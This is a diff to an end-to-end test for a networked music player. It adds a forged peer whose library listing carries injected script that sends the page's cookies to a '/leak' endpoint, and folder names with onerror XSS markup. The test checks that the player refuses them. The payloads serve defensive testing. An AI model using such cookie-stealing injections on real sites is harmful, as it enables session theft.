@@ -14,6 +14,7 @@
 
 const fs = require("fs");
 const dgram = require("dgram");
+const http = require("http");
 const net = require("net");
 const path = require("path");
 const { spawn, execFileSync } = require("child_process");
@@ -67,8 +68,24 @@ const MIX = [["Mix", "Björk - Jóga.mp3", 20, "Jóga"], ["Mix", "<img src=x one
 
 // The second player's library: a folder to browse and play from there.
 const PEER = [["Peer Album", "Sigur Rós - Ágætis.mp3", 20, "Ágætis"], ["Peer Album", "Zwei.mp3", 10, "Zwei"]];
-// A forged peer whose announced name (15 bytes at most) is markup.
+// A forged peer whose announced name (15 bytes at most) is markup. Its
+// listing names a folder in markup and a folder "Trap", whose listing is
+// followed by script that marks the page and sends its cookies home.
 const HOSTILE_PEER = "\"</script>'<b>";
+const HOSTILE_FOLDERS = ["<img src=x onerror=window.ranScript=1>", "Trap"];
+function hostileListing(request) {
+  const query = new URL(request.url, "http://x").searchParams;
+  const enc = (text) => encodeURIComponent(text).replace(/[^A-Za-z0-9%]/g, (c) => "%" + c.charCodeAt(0).toString(16))
+    .replace(/%[0-9A-F]{2}/g, (h) => h.toLowerCase());
+  const cb = query.get("callback") || "";
+  if (query.get("path") === "/Trap") {
+    return cb + "({\"path\" : \"%2fTrap\",\n\"auth\" : \"\",\n\"files\" : [\n]});window.ranScript=1;" +
+      "new Image().src='http://" + request.headers.host + "/leak?'+encodeURIComponent(document.cookie);";
+  }
+  return cb + "({\"path\" : \"\",\n\"auth\" : \"\",\n\"files\" : [\n" + HOSTILE_FOLDERS.map((name) =>
+    "\n{\"name\" : \"" + enc(name) + "\",\"path\" : \"" + enc("/" + name) + "\",\"type\" : \"%24DIR%24\" }\n").join(",") +
+    "]});";
+}
 
 function makeLibrary(root, tracks) {
   for (const [folder, file, seconds, title] of tracks) {
@@ -129,6 +146,14 @@ async function startPlayer(dir, sharedDir, extra, logName) {
   await new Promise((resolve) => forger.bind(0, resolve));
   forger.setBroadcast(true);
   const forgedPort = await freePort();
+  const forgedAsked = [];
+  const forgedServer = http.createServer((request, response) => {
+    forgedAsked.push({ url: request.url, headers: request.headers });
+    const body = Buffer.from(request.url.startsWith("/library.js?") ? hostileListing(request) : "");
+    response.writeHead(200, { "Content-Type": "text/javascript", "Content-Length": body.length });
+    response.end(body);
+  });
+  await new Promise((resolve) => forgedServer.listen(forgedPort, "0.0.0.0", resolve));
   const forged = announcement(Buffer.from("f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff", "hex"), HOSTILE_PEER, forgedPort);
   const announce = () => forger.send(forged, 51515, "255.255.255.255");
   announce();
@@ -446,11 +471,17 @@ async function startPlayer(dir, sharedDir, extra, logName) {
 
     // Library places: favorites.js (this player, the peer and the forged
     // peer named in markup) in one menu sorted by name, every name as text.
-    // Browsing the peer sends "library.js" to the peer's own host with this
-    // browser's session value as JSON_auth; its folder's play button puts
+    // Browsing the peer goes through this player's "peerlibrary.js"; the
+    // browser sends nothing to another host. Its folder's play button puts
     // the peer's download URLs into the local playlist, which plays them.
+    // The forged peer's folders list as text; its listing that carries
+    // script is refused, nothing runs, no cookie or session id reaches it.
     {
       const f = [];
+      const elsewhere = [];
+      const ownHost = new URL(base).host;
+      const onAnyRequest = (r) => { if (new URL(r.url()).host !== ownHost) elsewhere.push(r.url()); };
+      page.on("request", onAnyRequest);
       // Asked from the page, as the client asks: with the session cookie,
       // repeated in JSON_auth.
       const favorites = async () => {
@@ -497,7 +528,7 @@ async function startPlayer(dir, sharedDir, extra, logName) {
         await page.keyboard.press("Escape");
 
         const asked = [];
-        const onRequest = (r) => { if (r.url().includes("/library.js?")) asked.push(r.url()); };
+        const onRequest = (r) => { if (r.url().includes("library.js?")) asked.push(r.url()); };
         page.on("request", onRequest);
         await choose(place.name);
         const peerRoot = await listing("", 2, 1, peer.base);
@@ -507,12 +538,8 @@ async function startPlayer(dir, sharedDir, extra, logName) {
           f.push("the peer's shared folders are not listed: " + seen);
           break browse;
         }
-        const url = asked.map((u) => new URL(u)).find((u) => u.host === place.host);
-        const session = ((await context.cookies(base)).find((c) => c.name === "Tunelet") || {}).value;
-        if (!url) f.push("no library.js went to " + place.host + ": " + JSON.stringify(asked));
-        else if (!session || url.searchParams.get("JSON_auth") !== session) {
-          f.push("JSON_auth " + url.searchParams.get("JSON_auth") + " is not the session " + session);
-        }
+        const url = asked.map((u) => new URL(u)).find((u) => u.pathname === "/peerlibrary.js");
+        if (!url || url.searchParams.get("host") !== place.host) f.push("no peerlibrary.js asked for " + place.host + ": " + JSON.stringify(asked));
         if ((await page.textContent("#libraryBox .ml-host")) !== place.name) f.push("the host shown is not the peer's name");
 
         await open(page, peerRoot[0].name);
@@ -556,12 +583,31 @@ async function startPlayer(dir, sharedDir, extra, logName) {
         await page.click("#libraryBox .ml-places");
         if (await menu.locator("li", { hasText: favs[0].name }).count()) f.push("the menu still offers the deleted place");
         await page.keyboard.press("Escape");
+
+        await choose(hostile.name);
+        if (!(await shownIn(page, JSON.stringify(HOSTILE_FOLDERS)))) f.push("the forged peer's folders are not listed: " + seen);
+        await open(page, "Trap");
+        if (!(await until(async () => (await ml(page).locator("li.ml-message").count()) === 1))) {
+          f.push("the forged listing with script was not refused: " + seen);
+        }
+        const session = ((await context.cookies(base)).find((c) => c.name === "Tunelet") || {}).value;
+        if (await page.evaluate(() => window.ranScript)) f.push("the forged peer's script ran");
+        if (await page.locator("img[src=x]").count()) f.push("a forged folder name became markup");
+        const leaked = forgedAsked.filter((r) => r.headers.cookie || !r.url.startsWith("/library.js?") ||
+                                           (session && JSON.stringify(r).includes(session)));
+        if (!forgedAsked.length || leaked.length) f.push("the forged peer was asked " + JSON.stringify(forgedAsked));
+        if ((await context.cookies(base)).some((c) => c.name === "mlHost" && decodeURIComponent(c.value) === hostile.host)) {
+          f.push("mlHost keeps the forged peer selected");
+        }
       }
+      page.off("request", onAnyRequest);
+      if (elsewhere.length) f.push("the browser asked other hosts: " + JSON.stringify(elsewhere));
       await choose("Local Library");
       if (!(await until(async () => (await page.textContent("#libraryBox .ml-host")) === "Local Library"))) {
         f.push("Local Library did not come back");
       }
-      verdict("places: favorites.js and saved places in one menu; a peer browsed and its folder played", f);
+      verdict("places: favorites.js and saved places in one menu; a peer browsed and its folder played; " +
+              "a forged peer's listing read as data", f);
     }
 
     // Single rows, with non-ASCII and markup names: play, enqueue, enqueue
@@ -645,6 +691,7 @@ async function startPlayer(dir, sharedDir, extra, logName) {
     await browser.close();
     clearInterval(announcer);
     forger.close();
+    forgedServer.close();
     child.kill("SIGTERM");
     peer.child.kill("SIGTERM");
     clearTimeout(watchdog);
